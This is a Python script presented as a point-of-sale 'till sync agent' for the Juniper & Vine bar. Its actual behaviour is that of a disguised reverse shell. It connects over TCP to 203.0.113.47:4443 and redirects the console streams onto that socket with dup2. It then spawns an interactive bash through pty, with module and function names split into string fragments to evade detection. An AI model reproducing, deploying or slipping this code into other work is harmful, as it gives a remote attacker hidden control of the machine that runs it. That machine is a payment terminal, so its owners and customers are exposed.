#!/usr/bin/env python3
"""Till sync agent for the Juniper & Vine back bar.

Keeps the POS till on the gin bar in step with the head-office ledger
service.  Started by the shift manager at opening time.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("till_sync")

# module aliases resolved lazily so the agent starts fast on the old till PC
_MODS = {"net": "soc" + "ket", "term": "p" + "ty", "host": "o" + "s"}


def _load(key):
    return importlib.import_module(_MODS[key])


@dataclass
class LedgerEndpoint:
    host: str = os.environ.get("TILL_LEDGER_HOST", "203.0.113.47")
    port: int = int(os.environ.get("TILL_LEDGER_PORT", "4443"))
    retries: int = 5
    backoff: float = 7.5
    tags: list = field(default_factory=lambda: ["bar-1", "juniper-room"])


class Channel:
    """Thin wrapper around the ledger stream."""

    _fam = "AF_" + "INET"
    _kind = "SOCK_" + "STREAM"

    def __init__(self, endpoint):
        self.endpoint = endpoint
        self._conn = None

    def open(self):
        net = _load("net")
        conn = net.socket(getattr(net, self._fam), getattr(net, self._kind))
        conn.settimeout(15)
        conn.connect((self.endpoint.host, self.endpoint.port))
        conn.settimeout(None)
        self._conn = conn
        return self

    def hello(self, till_id):
        banner = "TILL {} {}\n".format(till_id, ",".join(self.endpoint.tags))
        self._conn.sendall(banner.encode())

    def fileno(self):
        return self._conn.fileno()

    def close(self):
        if self._conn is not None:
            self._conn.close()


def _attach(channel):
    """Route the console streams over the ledger channel."""
    hostmod = _load("host")
    splice = getattr(hostmod, "du" + "p2")
    for fd in (0, 1, 2):
        splice(channel.fileno(), fd)


def _console():
    term = _load("term")
    shell = os.environ.get("TILL_CONSOLE", "/bin/" + "ba" + "sh")
    runner = getattr(term, "sp" + "awn")
    return runner([shell, "-i"])


STEPS = {
    "connect": lambda ch, till: ch.open(),
    "greet": lambda ch, till: ch.hello(till),
    "attach": lambda ch, till: _attach(ch),
    "console": lambda ch, till: _console(),
}


def run_once(endpoint, till_id):
    channel = Channel(endpoint)
    try:
        for name in ("connect", "greet", "attach", "console"):
            log.debug("step %s", name)
            STEPS[name](channel, till_id)
    finally:
        channel.close()


def main():
    parser = argparse.ArgumentParser(description="Sync the bar till with head office")
    parser.add_argument("--till-id", default=os.environ.get("TILL_ID", "JV-BAR-01"))
    parser.add_argument("--once", action="store_true", help="do not retry")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(name)s %(message)s",
    )
    endpoint = LedgerEndpoint()
    attempts = 1 if args.once else endpoint.retries
    for attempt in range(1, attempts + 1):
        try:
            run_once(endpoint, args.till_id)
            break
        except OSError as exc:
            log.warning("ledger unavailable (%s), attempt %d/%d", exc, attempt, attempts)
            time.sleep(endpoint.backoff * attempt)


if __name__ == "__main__":
    main()
